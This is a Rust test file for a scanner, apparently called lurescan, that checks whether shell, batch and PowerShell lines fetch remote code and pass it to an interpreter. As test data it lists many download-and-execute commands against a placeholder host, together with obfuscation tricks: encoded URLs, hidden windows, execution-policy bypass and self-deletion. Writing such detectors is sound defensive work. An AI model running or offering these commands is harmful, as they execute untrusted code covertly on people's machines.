//! What command lines mean.

use lurescan::analyse::Action;
use lurescan::analyse::shell::{Dialect, Origin, read, read_powershell};
use lurescan::signal::Concealment;

fn actions(line: &str) -> Vec<Action> {
    read(line, Dialect::Any, &Origin::At(0), &[]).actions
}

fn remote(line: &str) -> Option<(Option<String>, String, Vec<Concealment>)> {
    found(actions(line))
}

fn found(actions: Vec<Action>) -> Option<(Option<String>, String, Vec<Concealment>)> {
    actions.into_iter().find_map(|action| match action {
        Action::RemoteToShell { url, shell, concealments, .. } => Some((url, shell, concealments)),
        _ => None,
    })
}

#[test]
fn text_from_the_network_that_reaches_an_interpreter_is_seen_however_it_is_written() {
    for line in [
        "curl -fsSL https://x.example.invalid/a | bash",
        "curl x.example.invalid/a|sh",
        "wget -qO- https://x.example.invalid/a | sudo -E bash -s -- --yes",
        "wget -O - https://x.example.invalid/a | sh",
        "bash <(curl -s https://x.example.invalid/a)",
        "source <(curl -s https://x.example.invalid/a)",
        ". <(wget -qO- https://x.example.invalid/a)",
        "eval \"$(curl -s https://x.example.invalid/a)\"",
        "eval `curl -s https://x.example.invalid/a`",
        "sh -c \"$(curl -fsSL https://x.example.invalid/a)\"",
        "bash -lc 'curl https://x.example.invalid/a | sh'",
        "bash -c \"bash -c 'curl https://x.example.invalid/a | sh'\"",
        "sh <<< \"$(curl https://x.example.invalid/a)\"",
        "X=$(curl -s https://x.example.invalid/a); eval \"$X\"",
        "U=https://x.example.invalid/a; curl $U | sh",
        "C=\"curl -s https://x.example.invalid/a\"; $C | sh",
        "c''url https://x.example.invalid/a | s\"h\"",
        "c\\url https://x.example.invalid/a | sh",
        "/usr/bin/curl https://x.example.invalid/a | /bin/sh",
        "curl -o f.sh https://x.example.invalid/a && sh f.sh",
        "curl -sSLo /tmp/f https://x.example.invalid/a; chmod +x /tmp/f; /tmp/f",
        "wget https://x.example.invalid/run.sh; chmod +x run.sh; ./run.sh",
        "curl https://x.example.invalid/a > f; bash ./f",
        "curl https://x.example.invalid/a | tee f; cat f | sh",
        "curl https://x.example.invalid/a | base64 -d | sh",
        "curl https://x.example.invalid/a | node",
        "curl https://x.example.invalid/a | python3 -",
        "curl https://x.example.invalid/a | cmd",
        "cmd /c \"curl https://x.example.invalid/a -o %TEMP%\\a.bat && %TEMP%\\a.bat\"",
        "(curl https://x.example.invalid/a; echo) | sh",
        "{ curl https://x.example.invalid/a; } | sh",
        "curl https://x.example.invalid/a | while read l; do eval $l; done",
        "curl https://x.example.invalid/a | xargs -0 sh -c",
        "if true; then curl https://x.example.invalid/a | sh; fi",
        "cross-env A=1 nohup curl https://x.example.invalid/a | env -i sh",
        "npx -c 'curl https://x.example.invalid/a | sh'",
        "concurrently \"npm start\" \"curl https://x.example.invalid/a | sh\"",
        "mshta https://x.example.invalid/a.hta",
        "certutil -urlcache -split -f https://x.example.invalid/a a.exe & start a.exe",
        "bitsadmin /transfer j https://x.example.invalid/a.exe C:\\a.exe && C:\\a.exe",
        "msiexec /q /i https://x.example.invalid/a.msi",
        "irm https://x.example.invalid/a | iex",
        "iex (irm https://x.example.invalid/a)",
        "powershell -c \"iwr https://x.example.invalid/a | iex\"",
        "powershell IEX (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a')",
        "pwsh -NoProfile -ep bypass -w hidden -c \"$c = irm https://x.example.invalid/a; iex $c\"",
        "node -e \"require('child_process').exec('curl https://x.example.invalid/a | sh')\"",
        "deno run -A https://x.example.invalid/a.ts",
        "python3 -c \"import sys; exec(sys.stdin.read())\" < <(curl https://x.example.invalid/a)",
        "curl -XPOST https://x.example.invalid/a | sh",
        "curl https://x.example.invalid/a \\\n | sh",
    ] {
        assert!(remote(line).is_some(), "not seen: {line}\n{:#?}", actions(line));
    }
}

#[test]
fn downloads_that_no_interpreter_gets_are_no_remote_code() {
    for line in [
        "curl https://x.example.invalid/data.json | jq .",
        "curl -s https://x.example.invalid/data.json | python3 -m json.tool",
        "curl -s https://x.example.invalid/v | python3 -c \"import json,sys; print(json.load(sys.stdin)['tag'])\"",
        "curl -fsSL https://x.example.invalid/a.tar.gz | tar xz",
        "curl -o data.csv https://x.example.invalid/data.csv && node import.js",
        "wget -q https://x.example.invalid/a.zip && unzip a.zip && sh build.sh",
        "echo 'curl https://x.example.invalid/a | sh'",
        "curl http://localhost:3000/health && sh run.sh",
        "# curl https://x.example.invalid/a\nsh run.sh",
        "cat <<EOF > readme\ncurl https://x.example.invalid/a | sh\nEOF\nls",
        "npm install && npm run build",
        "wait-on http://localhost:3000 && bash e2e.sh",
        "git clone https://x.example.invalid/a.git && cd a && ./configure",
    ] {
        let reading = read(line, Dialect::Posix, &Origin::At(0), &[]);
        assert!(found(reading.actions.clone()).is_none(), "seen: {line}\n{:#?}", reading.actions);
    }
}

#[test]
fn what_disguises_a_remote_command_is_named() {
    for (line, concealment) in [
        ("curl http://192.0.2.9/a | sh", Concealment::RawIp),
        ("curl http://3221225993/a | sh", Concealment::RawIp),
        ("curl -L https://bit.ly/abc | sh", Concealment::PasteOrShortLink),
        ("curl https://demo.s.gy/M | sh", Concealment::PasteOrShortLink),
        ("curl -ks https://x.example.invalid/a | sh", Concealment::ProtectionOff),
        ("curl --ssl-no-revoke -L https://x.example.invalid/a | cmd", Concealment::ProtectionOff),
        ("A=htt; B=ps://x.example.invalid/a; curl $A$B | sh", Concealment::AssembledAddress),
        ("curl $(echo aHR0cHM6Ly94LmV4YW1wbGUuaW52YWxpZC9h | base64 -d) | sh", Concealment::AssembledAddress),
        ("echo Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2EgfCBzaA== | base64 -d | sh", Concealment::AssembledAddress),
        ("curl https://x.example.invalid/a | sh > /dev/null 2>&1 &", Concealment::SilencedOutput),
        ("nohup bash -c 'curl https://x.example.invalid/a | sh'", Concealment::SilencedOutput),
        ("start /b cmd /c \"curl https://x.example.invalid/a | cmd\"", Concealment::HiddenWindow),
        ("powershell -w hidden -c \"irm https://x.example.invalid/a | iex\"", Concealment::HiddenWindow),
        // PowerShell takes the dashes of typographers for its own.
        ("powershell \u{2015}w hidden \u{2013}c \"irm https://x.example.invalid/a | iex\"", Concealment::HiddenWindow),
        ("powershell -ExecutionPolicy Bypass -c \"irm https://x.example.invalid/a | iex\"", Concealment::ProtectionOff),
        ("curl https://x.example.invalid/a | sh; rm -- \"$0\"", Concealment::SelfDeletion),
        (
            "curl https://x.example.invalid/u | sh || powershell -c \"irm https://x.example.invalid/w | iex\"",
            Concealment::PerPlatform,
        ),
    ] {
        let seen = remote(line).unwrap_or_else(|| panic!("not seen: {line}"));
        assert!(seen.2.contains(&concealment), "{line}: {:?}", seen.2);
    }
    let padded = format!("echo ok;{}curl https://x.example.invalid/a | sh", " ".repeat(120));
    assert!(remote(&padded).expect("seen").2.contains(&Concealment::Padding));
}

#[test]
fn an_honest_address_with_variables_is_not_called_assembled() {
    for line in [
        "V=1.2; curl https://x.example.invalid/v$V/install.sh | sh",
        "HOST=x.example.invalid; curl \"https://$HOST/install.sh\" | sh",
        "BASE=https://x.example.invalid; curl ${BASE}/install.sh | sh",
    ] {
        assert_eq!(remote(line).expect("seen").2, [], "{line}");
    }
}

#[test]
fn files_scripts_and_inline_code_are_told_apart() {
    let interprets = |line: &str, path: &str| {
        assert!(
            actions(line).iter().any(|a| matches!(a, Action::Interprets { path: p, .. } if p == path)),
            "{line}: {:#?}",
            actions(line)
        );
    };
    interprets("(command -v node >/dev/null 2>&1 && node ./public/fonts/a.woff2) || echo ''", "./public/fonts/a.woff2");
    interprets("node --max-old-space-size=4096 server.js | react-scripts start", "server.js");
    interprets("cross-env NODE_ENV=dev nodemon -w src src/index.ts", "src/index.ts");
    interprets("node -r ./hook.js app.js", "./hook.js");
    interprets("cat setup.sample | sh", "setup.sample");
    interprets("python3 -v tool.py", "tool.py");
    interprets("python3 -m jobs.check", "jobs/check.py");
    interprets("start /b node server || nohup node server &", "server");
    interprets("wscript.exe //B //Nologo vendor/run.vbs", "vendor/run.vbs");
    interprets("concurrently \"node a.js\" \"npm:client\"", "a.js");
    assert!(
        actions("./setup.sh --fast").iter().any(|a| matches!(a, Action::RunsFile { path, .. } if path == "./setup.sh"))
    );
    assert!(
        actions("npm --prefix api run dev")
            .iter()
            .any(|a| matches!(a, Action::PackageScript { script, .. } if script == "dev"))
    );
    assert!(actions("yarn").iter().any(|a| matches!(a, Action::PackageScript { script, .. } if script == "install")));
    assert!(
        actions("git config core.hooksPath .github; git checkout main").iter().any(
            |a| matches!(a, Action::GitConfig { key, value, .. } if key == "core.hookspath" && value == ".github")
        )
    );
    assert!(
        actions("node -e 'console.log(1)'")
            .iter()
            .any(|a| matches!(a, Action::Inline { code, .. } if code == "console.log(1)"))
    );
}

#[test]
fn powershell_scripts_are_followed_through_variables_and_files() {
    for script in [
        "$u = 'https://x.example' + '.invalid/a'\n$c = (New-Object Net.WebClient).DownloadString($u)\nIEX $c",
        "I`E`X (i`w`r https://x.example.invalid/a)",
        "iwr https://x.example.invalid/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1",
        "Invoke-WebRequest -Uri https://x.example.invalid/a.exe -OutFile a.exe\nStart-Process .\\a.exe",
        "[scriptblock]::Create((irm https://x.example.invalid/a)).Invoke()",
    ] {
        assert!(found(read_powershell(script, &Origin::At(0)).actions).is_some(), "not seen: {script}");
    }
    let honest =
        "Invoke-WebRequest https://x.example.invalid/a.zip -OutFile a.zip\nExpand-Archive a.zip\nnode build.js";
    assert!(found(read_powershell(honest, &Origin::At(0)).actions).is_none());
}

#[test]
fn spans_name_the_command_in_the_file() {
    let script = "set -e\necho hi\ncurl https://x.example.invalid/a | sh\n";
    let reading = read(script, Dialect::Posix, &Origin::At(0), &[]);
    let span = reading.actions.iter().find_map(|action| match action {
        Action::RemoteToShell { span, .. } => Some(span.clone()),
        _ => None,
    });
    assert_eq!(&script[span.expect("seen")], "curl https://x.example.invalid/a | sh");
}

#[test]
fn hostile_text_ends_within_its_limits() {
    for text in [
        "$(".repeat(100_000),
        "(".repeat(100_000),
        "`".repeat(100_001),
        format!("A={}; {}", "x".repeat(9_000), "A=$A$A$A; eval $A; ".repeat(20_000)),
        "<<E ".repeat(50_000),
        "\\\n".repeat(100_000),
        "${".repeat(100_000),
        "eval \"".repeat(50_000),
        "sh -c 'a' ; ".repeat(50_000),
        "é\\é%é$é".repeat(20_000),
    ] {
        let _ = read(&text, Dialect::Any, &Origin::At(0), &[]);
        let _ = read(&text, Dialect::Batch, &Origin::At(0), &[]);
        let _ = read_powershell(&text, &Origin::At(0));
    }
}
